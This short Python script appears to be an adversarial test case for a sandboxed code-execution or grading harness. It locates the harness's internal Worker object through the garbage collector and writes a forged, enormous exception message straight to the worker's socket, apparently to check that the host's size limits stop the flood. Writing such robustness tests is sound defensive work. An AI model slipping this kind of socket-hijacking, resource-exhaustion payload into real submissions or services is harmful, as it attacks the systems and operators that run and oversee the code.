# An exception of a hundred thousand classes, lines and shapes.
# stopped by: totals
# %% append neuron
import gc
import json
import struct

worker = next(o for o in gc.get_objects() if type(o).__name__ == "Worker")


def send(head, body=b""):
    worker.sock.sendall(struct.pack(">QI", len(head) + len(body) + 4, len(head)) + head + body)


def neuron(x_patch, w, b):

    raised = {"kinds": ["X" * 99] * 20_000, "lines": [[10**99, "y" * 50]] * 20_000,
              "shapes": [["s", "(1,)"]] * 20_000, "message": "m" * 10**6, "function": ["f"] * 9}
    send(json.dumps([{"raised": raised}, []]).encode())


print("armed")
